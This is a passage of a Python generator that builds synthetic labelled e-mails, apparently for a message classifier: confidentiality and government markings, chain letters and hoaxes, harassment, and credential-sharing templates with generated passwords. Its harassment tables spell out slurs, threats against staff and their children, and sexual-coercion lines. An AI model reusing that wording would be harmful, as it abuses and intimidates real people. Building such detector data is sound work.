                     "We recommend not responding to their letter until we have spoken.",
                     "Please find our advice on the employment tribunal claim below. The exposure is likely limited "
                     "to the basic award.",
                     "Following the call, we think the limitation period expires on the {d}th. We need instructions "
                     "by Friday."]).format(city=r.choice(CITIES), d=r.randint(3, 28))
    text = ban + "\n\n" + compose(r, frm, to, body)
    return spec("cls_privileged", {"classification": "text"}, frm, to, r.choice(["Advice", "Tribunal claim", "Limitation"]), text)


SUBJ_TAGS = ["[CONFIDENTIAL] {t}", "CONFIDENTIAL: {t}", "[Internal] {t}", "{t} [RESTRICTED]", "(Confidential) {t}",
             "Strictly confidential – {t}", "[Internal Only] {t}", "RE: [Confidential] {t}", "[Proprietary] {t}",
             "{t} - Company Confidential", "[Sensitivity: Highly Confidential] {t}", "INTERNAL USE ONLY - {t}"]


def fam_cls_subject(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    title, body = cls_topic(r)
    tag = r.choice(SUBJ_TAGS)
    pre, post = tag.split("{t}")
    subj = (S + pre + E if pre.strip() else pre) + title + (S + post + E if post.strip() else post)
    return spec("cls_subject_tag", {"classification": "header"}, frm, to, subj, compose(r, frm, to, body))


def guid(r):
    h = "".join(r.choice("0123456789abcdef") for _ in range(32))
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def msip_header(r, name):
    g, site, act = guid(r), guid(r), guid(r)
    d = rdate(r).astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    v = ("MSIP_Label_{g}_Enabled=true; MSIP_Label_{g}_SetDate={d}; MSIP_Label_{g}_Method={m}; "
         "MSIP_Label_{g}_Name={n}; MSIP_Label_{g}_SiteId={s}; MSIP_Label_{g}_ActionId={a}; "
         "MSIP_Label_{g}_ContentBits={cb}").format(g=g, d=d, m=r.choice(["Standard", "Privileged"]), n=name, s=site, a=act,
                                                  cb=r.choice([0, 1, 2, 3]))
    return ("msip_labels", fold_params(v))


def fam_cls_header(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    title, body = cls_topic(r)
    k = r.random()
    if k < 0.45:
        h = msip_header(r, r.choice(["Confidential", "Highly Confidential", "Internal", "Restricted",
                                     "Confidential - All Employees", "Company Confidential", "Highly Confidential - Finance"]))
        fam = "cls_msip"
    else:
        h = r.choice([("Sensitivity", "Company-Confidential"), ("X-Classification", "CONFIDENTIAL"),
                      ("X-Sensitivity-Label", "Internal"), ("X-Data-Classification", "Restricted"),
                      ("Sensitivity", "Company-Confidential"), ("X-Titus-Classification", "TITUS: Confidential")])
        fam = "cls_header"
    return spec(fam, {"classification": "header"}, frm, to, title, compose(r, frm, to, body), extra_headers=[h])


def fam_cls_html(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    title, body = cls_topic(r)
    ban = r.choice(BANNERS + ["Classification: Confidential", "Internal Use Only"]).format(org=frm["org"])
    tpl = r.choice([
        '<table width="100%" cellpadding="4" style="background:#c00000"><tr><td style="color:#fff;font-weight:bold;'
        'text-align:center">«{ban}»</td></tr></table>\n<p>{greet}</p><p>{body}</p><p>{so},<br>{name}</p>',
        '<p>{greet}</p><p>{body}</p><p>{so},<br>{name}</p>\n<p style="color:#c00000;font-size:8pt;text-align:center">«{ban}»</p>',
        '<div style="border:1px solid #999;padding:2px 6px;font:bold 9pt Arial;color:#900">«{ban}»</div><br>'
        '<div>{greet}</div><div><br></div><div>{body}</div><div><br></div><div>{so},</div><div>{name}</div>',
    ])
    html = mk(tpl).format(ban=ban, greet=esc(greeting(r, to)), body=esc(body), so=esc(r.choice(SIGNOFFS)), name=esc(frm["name"]))
    text = compose(r, frm, to, body)
    text = S + ban + E + "\n\n" + text
    sp = spec("cls_html_banner", {"classification": "text"}, frm, to, title, text, html=html)
    sp["car"] = {"layout": ["html", "alt"]}
    return sp



# Markings later in the Subject, legal privilege headings, government and sharing schemes.
SUBJ_TRAIL = ["{t} - CONFIDENTIAL", "Re: {t} | Company Confidential", "{t} – Strictly Confidential – do not forward",
              "{t}: Privileged & Confidential", "FW: {t} // INTERNAL USE ONLY", "{t} - Attorney-Client Privileged",
              "{t} DO NOT FORWARD", "{t} (Privileged and Confidential)", "{t} - OFFICIAL-SENSITIVE",
              "TLP:AMBER {t}"]
GOV_BANNERS = ["TLP:RED", "TLP:AMBER+STRICT", "OFFICIAL-SENSITIVE COMMERCIAL", "CUI", "CUI//SP-PRVCY",
               "UNCLASSIFIED//FOR OFFICIAL USE ONLY", "SECRET//NOFORN", "PROTECT - PERSONAL",
               "Subject to legal professional privilege", "ATTORNEY WORK PRODUCT",
               "Prepared at the direction of counsel", "Confidential Attorney-Client Communication"]


def fam_cls_subject_trail(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    title, body = cls_topic(r)
    tag = r.choice(SUBJ_TRAIL)
    pre, post = tag.split("{t}")
    subj = (S + pre + E if pre.strip() else pre) + title + (S + post + E if post.strip() else post)
    return spec("cls_subject_trail", {"classification": "header"}, frm, to, subj, compose(r, frm, to, body))


def fam_cls_gov(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    title, body = cls_topic(r)
    ban = S + r.choice(GOV_BANNERS) + E
    text = compose(r, frm, to, body)
    text = ban + "\n\n" + text + ("\n" + ban + "\n" if r.random() < 0.4 else "")
    return spec("cls_gov_marking", {"classification": "text"}, frm, to, title, text)


# --------------------------------------------------------------------------------------------
# chain letters
# --------------------------------------------------------------------------------------------

MISF = ["lost her job", "was in a car accident", "had his house flood", "lost his entire savings",
        "fell ill and spent a month in hospital", "was dumped by her fiancé", "broke his leg skiing",
        "had her car stolen"]
FORT = ["won {amt} on the lottery", "got a promotion", "received an unexpected inheritance of {amt}",
        "found the job of her dreams", "met the love of his life", "had a long-lost cheque of {amt} turn up"]
NUMWORD = {3: "three", 5: "five", 7: "seven", 8: "eight", 9: "nine", 10: "ten", 12: "twelve", 13: "thirteen",
           15: "fifteen", 20: "twenty"}

CHAIN = {
    "badluck": [
        "This letter was started in {year0} by a missionary in {place} and has gone around the world {k} times. "
        "Now the good fortune has come to you. «Within {days} days of receiving it you must send it on to {n} people.» "
        "Do not send money; fate has no price.\n\n{nm1} from {city1} threw the letter away and nine days later {misf}. "
        "{nm2} sent out {n} copies and {fort}.\n\n«Do not break the chain.» It works even if you do not believe in it.",

        "PLEASE READ!!! «THIS IS NOT A JOKE.» Whoever receives this has {days} days to «pass it on to {n} others». "
        "A woman in {city1} deleted it and {misf}. A man in {city2} sent it to {n} friends and {fort} the very next "
        "day.\n\n«Whoever breaks this chain will have {years} years of misfortune.» I'm only sending it to you because I care!",

        "Hi everyone, my mum sent me this and I honestly don't want to risk it lol\n\n~~~ The Good Luck Tree ~~~\n"
        "This tree has been sent to you for good luck. «Copy it and e-mail it to {nw} of your friends before midnight» "
        "and you will receive unexpected money within {days} days. «Those who ignored it suffered»: {nm1} {misf} the "
        "week after. Keep the tree growing!",

        "Dear friend, an old monk in {place} wrote this blessing long ago. «Share it with {n} souls you treasure before "
        "the sun sets on {dayname}» and good things will knock on your door. «Let it stop with you and the blessing "
        "turns to sorrow.» {nm1} kept it to herself and {misf}.",

        "ok so apparently «if u dont send this to {n} ppl in the next {hours} hrs» u will have bad luck in love for "
        "{years} yrs!!! «im not joking» my friend ignored it and her bf dumped her the next day. send it back to me "
        "if ur my friend <3",

        "This prayer has been sent to you for good luck. The original is kept in {place}. It has been around the world "
        "{k} times. «Make {n} copies and send them to people you know within {hours} hours» — it must leave your hands. "
        "Even if you are not superstitious, take note: {nm1} received it, laughed, and {misf}. «It is no joke.» "
        "Do not keep this message!",
    ],
    "money": [
        "I know this sounds mad but {nm1}'s brother-in-law actually got a cheque for ${amt}. Microsoft and AOL are "
        "merging and are trialling an e-mail tracking program. «For every person you forward this e-mail to, Microsoft "
        "will pay you ${per}.» For every person they send it on to, you get another ${per2}. «Forward it to as many "
        "people as you can» before the program ends. My uncle's lawyer looked into it and it's legit!",

        "Dear Friends, please do not take this for a junk letter. Bill Gates is sharing his fortune. If you ignore "
        "this you will repent later. «Microsoft will give you ${per} for each person you pass this on to», and ${per2} "
        "for each person they send it to. «Send it to everyone on your list» and within two weeks you'll receive a cheque.",

        "Please don't delete! «{org2} will donate {cents} cents to {nm1}'s cancer treatment every time this message is "
        "forwarded.» She is only {age} and her family cannot afford the operation. «Forward it to everyone in your "
        "address book», it costs you nothing and could save a little girl's life.",

        "Genuine, not a hoax: a big phone company is paying ${per} for every e-mail address this reaches, as part of a "
        "promotion. «Just send it on to {nw} friends and cc me so they can count you» — after {days} days a voucher "
        "arrives. I already got mine!",
    ],
    "petition": [
        "Please read and sign.\n\n{cause}\n\n«Copy this entire message, add your name at the bottom of the list and "
        "forward it to everyone you know.» «When the list reaches {N} names, please send it to {mail}.» If you are "
        "number {k0}, please also send a copy to me so I can track it.\n\n{names}",

        "PETITION — {cause}\n\nThe UN collects these! «Please sign your name and pass this on to at least {n} people» — "
        "do not just delete it. «If it reaches {N} signatures we can stop this.» Every 50th signer, please forward a "
        "copy to {mail}.\n\n{names}",
    ],
    "love": [
        "A friend is someone who knows the song in your heart and can sing it back when you forget the words. "
        "«Send this to {n} people you love, including the one who sent it to you.» If you get {k0} back, you are truly "
        "loved. «If you break the chain, you'll be unlucky in love for {years} years.»",

        "Angels are watching over you right now. «Pass this message along to {nw} people you care about within the "
        "next {hours} hours» and something wonderful will happen to you on {dayname}. «If you delete it, {years} "
        "years of bad luck will follow.» Don't ignore it — it works!",

        "This is a hug chain! «Send it on to {n} people who made you smile this year» and watch how many hugs come "
        "back. «Whoever stops this hug chain won't get a hug for a year.» Mine came back {k0} times!",
    ],
    "wish": [
        "Make a wish before you scroll down!\n\n.\n.\n.\n.\n\nNow, «forward this to {n} people within the next {minutes} "
        "minutes» and your wish will come true tonight. «If you don't, the opposite of your wish will happen.» "
        "Don't ask me how, it worked for me!",

        "Close your eyes and think of the person you love... Now «send this mail to {nw} friends in {minutes} minutes» "
        "and they will call you before the weekend. «Break the chain and you will be alone for {years} years.»",
    ],
    "hoax": [
        "URGENT!!! If you receive an e-mail titled \"{hoax}\" DO NOT OPEN IT. It will wipe everything on your hard "
        "drive. This was announced by Microsoft and confirmed by McAfee yesterday. «Please forward this warning to "
        "everybody in your contact list» — «send it to all your friends, family and colleagues». The more people "
        "know, the better!",

        "Read all the way down... In {year0} a girl named {nm1} drowned in a lake near {city1}. «If you don't send "
        "this to {n} people in the next {minutes} minutes», she will stand next to your bed tonight. «People who "
        "ignored this have died in strange accidents.» THIS IS NOT A JOKE.",

        "Please pass this on to all your contacts. A little boy named {nm1} went missing in {city1} {k0} weeks ago. "
        "«If everyone forwards this to everyone they know», someone will recognise him. «Don't let it stop with you» "
        "— it only takes a second.",
    ],
}
CAUSES = ["Stop the closure of our local hospital maternity unit.", "Ban the testing of cosmetics on animals worldwide.",
          "Protect the wildlife reserve from the new motorway.", "Equal pay for nurses and carers now."]
HOAX = ["A Virtual Card For You", "Life is beautiful", "Invitation FACEBOOK", "Olympic Torch", "Dancing Pig"]
PLACES = ["the Netherlands", "New England", "a monastery in Tibet", "Venezuela", "an abbey in Kent", "Lourdes"]


def chain_text(r, sub=None):
    sub = sub or r.choice(list(CHAIN))
    tpl = r.choice(CHAIN[sub])
    n = r.choice(list(NUMWORD))
    names = "\n".join("%d. %s %s, %s" % (i + 1, r.choice(FIRST), r.choice(LAST), r.choice(CITIES))
                      for i in range(r.randint(4, 11)))
    vals = dict(n=n, nw=NUMWORD[n] if r.random() < 0.5 else n, days=r.choice([3, 4, 5, 7, 9, 13]),
                hours=r.choice([24, 48, 72, 96]), minutes=r.choice([5, 10, 15, 143]), years=r.choice([3, 5, 7, 10]),
                k=r.randint(9, 400), k0=r.randint(3, 12), year0=r.randint(1890, 1987), place=r.choice(PLACES),
                nm1=r.choice(FIRST), nm2=r.choice(FIRST), city1=r.choice(CITIES), city2=r.choice(CITIES),
                dayname=r.choice(["Friday", "Sunday", "Monday", "the next full moon"]),
                amt=r.randint(3, 800) * 1000, per=r.choice([245, 203, 5, 10, 50]), per2=r.choice([241, 3, 7, 2]),
                cents=r.choice([3, 5, 10, 32]), age=r.randint(3, 9), org2=r.choice(["The Red Cross", "AOL", "Cancer Research", "Make-A-Wish"]),
                N=r.choice([500, 1000, 5000]), mail="%s@%s" % (rid(r, 7), r.choice(FREEMAIL)), cause=r.choice(CAUSES),
                names=names, hoax=r.choice(HOAX))
    vals["misf"] = r.choice(MISF)
    vals["fort"] = r.choice(FORT).format(amt="$%d,000" % r.randint(5, 900))
    return sub, mk(tpl).format(**vals)


def fam_chain(ctx):
    r = ctx.rng
    frm = ctx.person(r.choice(ORGS))
    tos = [ctx.person(free=r.random() < 0.5) for _ in range(r.randint(1, 6))]
    sub, body = chain_text(r)
    if r.random() < 0.3:
        body = body.upper() if sub in ("badluck", "hoax") and r.random() < 0.5 else body
    k = r.random()
    if k < 0.35:
        # forwarded once or more, with quoted headers
        depth = r.randint(1, 3)
        for i in range(depth):
            who = ctx.person(free=True)
            body = fwd_block(r, who, frm, "FW: " * (depth - i) + r.choice(["Read this!!", "good luck", "Please read", "no joke"]),
                             dtext(r), body)
        intro = r.choice(["", "Sending this on, just in case! x", "Not sure about this but passing it on...",
                          "My sister sent me this. Sorry!", "I don't normally do these..."])
        text = (intro + "\n\n" if intro else "") + body + "\n"
    elif k < 0.5:
        text = "\n".join(("> " + l) if l.strip() else ">" for l in body.split("\n"))
        text = r.choice(["fyi!!", "Read this, it's true", "don't delete :)"]) + "\n\n" + text + "\n"
    else:
        text = body + "\n\n" + (frm["first"] if r.random() < 0.6 else "") + "\n"
    subj = r.choice({"badluck": ["FW: FW: FW: Fwd: Read this!", "Fwd: FW: luck", "Fw: Don't delete", "good luck!!"],
                     "money": ["Fwd: Fw: this is real", "FW: FW: it's legit", "Fw: free money!!"],
                     "petition": ["Fwd: sign the petition", "FW: Please sign and pass on", "Petition"],
                     "love": ["Fw: Fw: Friendship", "Fw: Angels", "Pass it on!!!", "hugs x"],
                     "wish": ["Make a wish", "FW: FW: wish", "Fwd: for you"],
                     "hoax": ["WARNING - please read", "Fwd: URGENT virus warning", "Fw: Please help find him",
                              "FW: FW: read to the end"]}[sub])
    if r.random() < 0.3:
        subj = "FW: " * r.randint(1, 4) + subj
    sp = spec("chain_" + sub, {"chain_letter": "text"}, frm, tos, subj, text)
    return sp


# Chain letters as they went round by e-mail without luck or misfortune: virus warnings,
# money per forward and "tracking", petitions and political forwards, prayer and
# friendship chains, urban-legend warnings. Written from the hoax pages' descriptions of
# the forms, in wordings of our own.
HOAXFORMS = {
    "virus": [
        "Heads up everyone!! «Should you get an e-mail with the subject \"{hoax}\", delete it "
        "straight away». «It reformats your hard disk» the moment it is opened and {av} cannot "
        "catch it. «{big} put out a warning about it on {day}.» «Send this on to everybody in "
        "your contact list», they will thank you.",

        "IMPORTANT - {nm1} in IT at my cousin's firm says «there's a worm called \"{hoax}\" "
        "doing the rounds». «It copies itself to your address book and wipes the C drive» "
        "two weeks later. «Warn all your friends and colleagues», the more people who know "
        "the better.",
    ],
    "money": [
        "I don't normally send these but this one is legit. «{org2} are running a trial to "
        "count how many people an e-mail reaches» and «they pay ${per} for each name this is "
        "sent to». «Pass it to as many people as you possibly can» - my neighbour got a cheque "
        "for ${amt} last month!",

        "Little {nm1} is {age} and needs an operation her parents can't afford. «{org2} have "
        "promised {cents} cents for every e-mail forwarded with her story». «Please send it to "
        "everybody in your address book» - it costs you nothing and could give her a future.",
    ],
    "petition": [
        "Enough is enough. {cause} «Sign at the bottom of the list and forward this to everyone "
        "you know». «When the list gets to {N} names» {mail} will send it to the minister.\n\n"
        "{names}",

        "«If you agree with this, pass it on. If you don't, delete it» - but «I bet 9 out of 10 "
        "of you won't have the nerve to forward it». {cause}",
    ],
    "prayer": [
        "This prayer is being passed around the world. «Say it now, then send it to {nw} people "
        "you love within the hour», including me. «A miracle is coming your way tomorrow.» "
        "Do not break this!",

        "«If you believe in God, send this to {n} friends right now» and watch what He does. "
        "«You are being tested»: don't let it stop with you.",
    ],
    "legend": [
        "Ladies, please read!! A woman in {city1} was approached in a supermarket car park by "
        "two men offering perfume samples. She sniffed one and woke up hours later without her "
        "purse. «The police confirmed it this week.» «Please forward this to all the women you "
        "know.»",

        "WARNING!!! Criminals are leaving a £20 note on windscreens so drivers get out. "
        "«It was on the local news yesterday.» «Please pass this on to everyone you know», "
        "better safe than sorry!",
    ],
    "friend": [
        "A true friend is there when the rest have gone. «Send this to {nw} friends, and back "
        "to me if you're my friend.» «If you get {k0} back, you're truly loved.»",
    ],
}
HOAX_AV = ["Norton", "McAfee", "antivirus software", "any virus scanner"]
HOAX_BIG = ["Microsoft", "AOL", "IBM", "CNN", "Symantec"]


def fam_chain_hoax(ctx):
    """A hoax or chain of one of the luck-free forms, forwarded by a friend."""
    r = ctx.rng
    frm = ctx.person(free=r.random() < 0.6)
    tos = [ctx.person(free=r.random() < 0.5) for _ in range(r.randint(2, 7))]
    sub = r.choice(list(HOAXFORMS))
    names = "\n".join("%d. %s %s, %s" % (i + 1, r.choice(FIRST), r.choice(LAST), r.choice(CITIES))
                      for i in range(r.randint(3, 9)))
    n = r.choice(list(NUMWORD))
    body = mk(r.choice(HOAXFORMS[sub])).format(
        hoax=r.choice(HOAX), av=r.choice(HOAX_AV), big=r.choice(HOAX_BIG), nm1=r.choice(FIRST),
        day=r.choice(["Monday", "Friday", "the weekend"]), org2=r.choice(["AOL", "Microsoft", "A big phone company",
                                                                            "Cancer Research"]),
        per=r.choice([5, 10, 25]), amt=r.randint(3, 90) * 100, age=r.randint(3, 9), cents=r.choice([3, 5, 7]),
        cause=r.choice(CAUSES), N=r.choice([1000, 5000, 10000]), mail="%s@%s" % (rid(r, 7), r.choice(FREEMAIL)),
        names=names, nw=NUMWORD[n], n=n, city1=r.choice(CITIES), k0=r.randint(3, 9))
    if r.random() < 0.4:
        who = ctx.person(free=True)
        body = fwd_block(r, who, frm, "Fw: " + r.choice(["PLEASE READ", "pass it on", "important!!"]), dtext(r), body)
        body = r.choice(["", "Sending on just in case.", "Seen this?", "Not sure but better safe than sorry x"]) + "\n\n" + body
    text = body + "\n\n" + (frm["first"] if r.random() < 0.7 else "") + "\n"
    subj = r.choice({"virus": ["FW: virus alert!!", "Fwd: DO NOT OPEN", "warning"],
                     "money": ["Fw: this is real", "FW: FW: help her", "Fwd: free money"],
                     "petition": ["Fwd: sign and send on", "FW: FW: FW: so true", "petition"],
                     "prayer": ["Fw: prayer", "Fwd: for you", "blessings"],
                     "legend": ["FW: Ladies be careful", "Fw: warning", "Fwd: please read"],
                     "friend": ["Fw: friends", "Fwd: for my friends"]}[sub])
    return spec("chain_form_" + sub, {"chain_letter": "text"}, frm, tos, subj, text)


def fam_chain_office(ctx):
    """Colleague passing a chain letter round the office with a jokey intro."""
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    tos = [to] + [ctx.person((frm["org"], frm["dom"])) for _ in range(r.randint(1, 5))]
    variant = r.random()
    if variant < 0.5:
        n = r.choice([5, 7, 10])
        core = mk(r.choice([
            "Not risking it after the week I've had :)\n\n\"«Forward this to {n} colleagues before Friday and your manager "
            "will give you a day off. Break the chain and your inbox fills up for a month.»\"",
            "Team, the lucky cat has arrived. «Send it to {n} people in the building by 5pm or the printer jams for a "
            "year.» «Don't let it die with you!»",
            "Passing this along as instructed... «You have {n} hours to send this email to {n} coworkers.» «Whoever "
            "breaks it gets stuck with the month-end close.» Those who ignored it last year know what happened."]
        )).format(n=n)
    else:
        core = chain_text(r, r.choice(["badluck", "love", "wish"]))[1]
        core = r.choice(["lol, got this from my aunt. Apparently I have to send it on so here you go:\n\n",
                         "Sorry everyone, couldn't break it:\n\n"]) + core
    text = compose(r, frm, to, core, greet=r.random() < 0.5, sign=False, footer_p=0.3, filler=False, closer="")
    text = text.rstrip("\n") + "\n\n" + frm["first"] + "\n"
    return spec("chain_office", {"chain_letter": "text"}, frm, tos, r.choice(["Fw: lucky cat", "FW: FW: don't break it",
                                                                              "friday fun", "Fwd: you have to read this"]), text)


# --------------------------------------------------------------------------------------------
# harassment
# --------------------------------------------------------------------------------------------

HAR = {
    "insult": [
        "Honestly {n}, «you are the most useless idiot I have ever had the misfortune to work with».",
        "«Are you really this stupid or do you practise?» A child could have filled in that form.",
        "«Nobody on this team can stand you, you pathetic little worm.» Stop copying me into everything.",
        "«You're a brainless moron» and everybody in the office knows it.",
        "«Shut up and do your job, you incompetent clown.»",
        "«What a spineless, worthless excuse for a manager you are.» No wonder your team keeps leaving.",
        "«You dumb cow», you sent the wrong file AGAIN.",
        "«You're thick as two short planks» and frankly an embarrassment to the department.",
        "«Get it into your thick skull, you halfwit»: the deadline was yesterday.",
        "I don't know how «a lazy, useless fat slob like you» still has a job here.",
    ],
    "profanity": [
        "«What the fuck were you thinking» sending that to the client?",
        "«Fuck off, {n}.» I'm done covering for your mess.",
        "«You're a lying piece of shit» and I'll make sure everyone knows it.",
        "Don't you dare email my team again, «you arrogant prick».",
        "«Get your shit together or get the hell out.»",
        "«You absolute bastard», you took the credit for my work in front of the whole board.",
        "«Stop being such a dick» about the rota, {n}.",
        "«Who the fuck do you think you are?» You don't get to talk to me like that.",
        "«You're a complete asshole» and everyone in finance agrees.",
    ],
    "obfuscated": [
        "«f*ck you and your 'process'».",
        "Seriously, «you are a complete a$$hole».",
        "«Stop being such a b!tch» about the parking spaces.",
        "«sh1t work as usual from you», redo it.",
        "«f.u.c.k. off» and leave my budget alone.",
        "«go fcuk yourself», {n}.",
        "«you stupid @ss», read the ticket before closing it.",
        "what a «d1ck move» that was in the meeting, «ur a f***ing joke».",
        "«STFU» in the channel, «nobody cares what u think, moron».",
        "«You're such a b*tch», {n}. Everyone says so.",
        "honestly «piece of sh!t» code, «you fu**ing amateur».",
        "«a.s.s.h.o.l.e.» is too kind a word for you",
        "«FCK OFF» and take your 'feedback' with you",
    ],
    "threat": [
        "«I know where you live, {n}.» Think about that before you file the complaint.",
        "«You'll regret this.» Mark my words.",
        "«Watch your back» in the car park from now on.",
        "If you report me, «I will make your life hell».",
        "«Keep talking and see what happens to you and your family.»",
        "«I'll be waiting for you outside after the meeting» and we'll settle this properly.",
        "«Somebody should teach you a lesson, and it might be me.»",
        "«People who cross me end up getting hurt.» Just so you know.",
        "«One more word to HR and you won't be walking to your car in one piece.»",
        "Nice kids you've got. «It would be a shame if something happened to them.»",
        "«I'm going to find you and make you pay for this.»",
    ],
    "sexual": [
        "«You looked really hot in that skirt today», wear it again tomorrow, just for me.",
        "«Send me a few pics of you in something smaller» and I'll make sure the promotion goes through.",
        "If you want that contract renewed, you know what you have to do. «Come to my hotel room at 9.»",
        "«Nice body. Bet you'd look even better without the uniform.»",
        "«I keep thinking about your legs under the desk» during the meeting.",
        "«How about some nudes for the weekend?» Nobody has to know.",
        "«Sleep with me and the job is yours.» Simple as that.",
        "«Your tits looked amazing in that photo from the party.»",
        "«Sit on my lap at the Christmas do and I'll think about your pay rise.»",
    ],
    "slur": [
        "«We don't need some retard like you» on the project.",
        "«Go back to your own country», nobody wants you here.",
        "«Women like you should be at home, not in engineering.»",
        "«Typical spastic», can't even work a spreadsheet.",
        "«No one wants a tranny on the front desk», so don't bother applying.",
        "«People of your sort shouldn't be allowed near customers.» Stay in the back office.",
        "«What do you expect from an old fossil» like you, retire already.",
    ],
}
HAR_CONTEXT = ["Saw your comments in the review.", "About this morning.", "Re the incident in the meeting.",
               "I've had enough.", "Regarding your 'feedback' on my report.", "", "", ""]


def har_sentence(r, sub=None, n="you"):
    sub = sub or r.choice(list(HAR))
    return sub, mk(r.choice(HAR[sub])).format(n=n)


def fam_harass(ctx, sub=None):
    r = ctx.rng
    frm, to = ctx.pair(external=r.random() < 0.35)
    sub, sent = har_sentence(r, sub, to["first"])
    k = r.random()
    ctxline = r.choice(HAR_CONTEXT)
    if k < 0.25:
        extra = har_sentence(r, None, to["first"])[1]
        core = (ctxline + " " if ctxline else "") + sent + "\n\n" + extra
    else:
        core = (ctxline + " " if ctxline else "") + sent
    if r.random() < 0.3:
        orig = "Hi %s,\n\n%s\n\nThanks,\n%s" % (frm["first"], r.choice([
            "Could you send me the updated numbers before the review?", "Please can you stop booking the room over my slot.",
            "I've raised the issue with the timesheets with HR as discussed.", "The client has asked for a different account manager."]),
            to["first"])
        text = compose(r, frm, to, core, greet=r.random() < 0.3, sign=r.random() < 0.4, footer_p=0.1, filler=False,
                       opener="", closer="", quote=quote_block(r, to, dtext(r), orig))
        subj = "Re: " + r.choice(["numbers", "room booking", "timesheets", "account manager"])
        reply = True
    else:
        text = compose(r, frm, to, core, greet=r.random() < 0.5, sign=r.random() < 0.5, footer_p=0.1, filler=False,
                       opener="", closer="")
        subj = r.choice(["this morning", "your behaviour", "feedback", "Re: meeting", "read this", "final warning",
                         "the rota", "Friday", "you"])
        reply = False
    return spec("har_" + sub, {"harassment": "text"}, frm, to, subj, text, reply=reply)


def fam_harass_subject(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    subj = mk(r.choice(["«you useless idiot»", "«f*** you» and your deadlines", "«I know where you live»",
                        "Re: «shut up, moron»", "«you're pathetic»"]))
    text = compose(r, frm, to, r.choice(["Read the ticket before you close it.", "Don't ever do that again.",
                                         "I'm not repeating myself."]), greet=False, sign=False, footer_p=0, filler=False,
                   opener="", closer="")
    return spec("har_subject", {"harassment": "header"}, frm, to, subj, text)


# Families added after the first held-out set: drawn from their own random stream (PLAN_EXTRA,
# SEED_EXTRA) and appended, so that they leave the earlier messages as they were.
HAR_MORE = {
    "slur_more": [
        "«Nobody wants a dyke» running the night shift.",
        "«Shut up, you stupid f4ggot», nobody asked for your opinion.",
        "Tell «that wetback» in the warehouse to learn English.",
        "«Typical trailer trash», can't even dress for a client meeting.",
        "«Your kind isn't welcome» on this floor, {n}.",
        "«Go back where you came from», {n}.",
    ],
    "dialect": [
        "«ur such a biatch» for taking my parking space again",
        "«kiss my azz», {n}, I'm not redoing the slides",
        "«phuck off» with your timesheet reminders",
        "tell «those hoes in marketing» to stop cc'ing me",
        "«stfu» in the standup, nobody cares about your weekend",
        "«yo lazy ass» still hasn't sent the figures",
        "«what a sh!tshow», thanks for nothing «u dumbass»",
        "«quit actin like a lil pussy» and call the client",
        "«fuuuuck you» and your 'process', {n}",
    ],
    "veiled": [
        "«Be careful walking to your car after work», {n}. That car park is very dark.",
        "«It would be a real shame if your name ended up in the local paper.»",
        "«We know where your children go to school.» Think about that.",
        "Drop the grievance «if you know what's good for you».",
        "«Accidents happen to people who talk to auditors.»",
        "«You'll never see it coming», {n}.",
        "«Your days here are numbered.»",
        "«I'd hate for something to happen to your family» over a silly complaint.",
    ],
    "quid": [
        "«Spend a night with me and the promotion is all yours.»",
        "«Be really nice to me and the contract is yours», {n}.",
        "«If you want to keep your job, you'll have to sleep with me.»",
        "«Come to my hotel room tonight if you want the bonus.»",
        "«If you want that pay rise, you know what you have to do.»",
    ],
}


def fam_harass_more(ctx, sub):
    r = ctx.rng
    frm, to = ctx.pair(external=r.random() < 0.3)
    sent = mk(r.choice(HAR_MORE[sub])).format(n=to["first"])
    ctxline = r.choice(HAR_CONTEXT)
    core = (ctxline + " " if ctxline else "") + sent
    if r.random() < 0.3:
        orig = "Hi %s,\n\n%s\n\nThanks,\n%s" % (frm["first"], r.choice([
            "Can we move the review to Thursday?", "I've booked the meeting room for the audit prep.",
            "The client wants the revised quote by Monday.", "HR asked me to follow up on the rota."]), to["first"])
        text = compose(r, frm, to, core, greet=r.random() < 0.3, sign=r.random() < 0.4, footer_p=0.1, filler=False,
                       opener="", closer="", quote=quote_block(r, to, dtext(r), orig))
        subj = "Re: " + r.choice(["review", "meeting room", "quote", "rota"])
    else:
        text = compose(r, frm, to, core, greet=r.random() < 0.5, sign=r.random() < 0.5, footer_p=0.1, filler=False,
                       opener="", closer="")
        subj = r.choice(["a word", "your attitude", "this week", "Re: project", "last warning", "tonight", "hey"])
    return spec("har_" + sub, {"harassment": "text"}, frm, to, subj, text)


# --------------------------------------------------------------------------------------------
# credentials
# --------------------------------------------------------------------------------------------

WORDS = ["Harbour", "Falcon", "Copper", "Maple", "Orbit", "Lantern", "Summit", "Willow", "Granite", "Velvet",
         "Thistle", "Cobalt", "Meadow", "Bramble", "Quartz", "Saffron"]


def gen_password(r):
    k = r.random()
    if k < 0.3:
        return r.choice(WORDS) + str(r.randint(1, 99)).zfill(2) + r.choice("!#$%&*?@")
    if k < 0.5:
        return r.choice(WORDS) + r.choice(["Spring", "Summer", "Autumn", "Winter"]) + str(r.choice([2023, 2024, 2025])) + r.choice("!#.")
    if k < 0.75:
        al = string.ascii_letters + string.digits + "!#$%&*+-=?@^_"
        while True:
            p = "".join(r.choice(al) for _ in range(r.randint(10, 16)))
            if any(c.isdigit() for c in p) and any(c.isupper() for c in p):
                return p
    if k < 0.9:
        return "-".join(r.choice(WORDS).lower() for _ in range(3)) + "-" + str(r.randint(10, 99))
    # leetspeak
    w = r.choice(WORDS)
    return w.replace("a", "4").replace("e", "3").replace("o", "0") + str(r.randint(1, 9)) + r.choice("!&$")


def user_of(p):
    return r_user(p)


def r_user(p):
    return (fold_ascii(p["first"])[0] + fold_ascii(p["last"]).replace("'", "")).lower()


CRED_PW = [
    "Your temporary password is «{pw}». You'll be asked to change it the first time you sign in.",
    "password: «{pw}»",
    "Pwd = «{pw}» (case sensitive)",
    "I've reset it for you, the new one is «{pw}»",
    "Login for the supplier portal is «{user} / {pw}».",
    "Username «{user}», password «{pw}». Please don't share it with the agency.",
    "creds for the shared mailbox: «{user}:{pw}»",
    "The passphrase for the encrypted spreadsheet is «{pw}».",
    "Pass: «{pw}»",
    "Use «{pw}» to sign in as {user} until IT sets you up properly.",
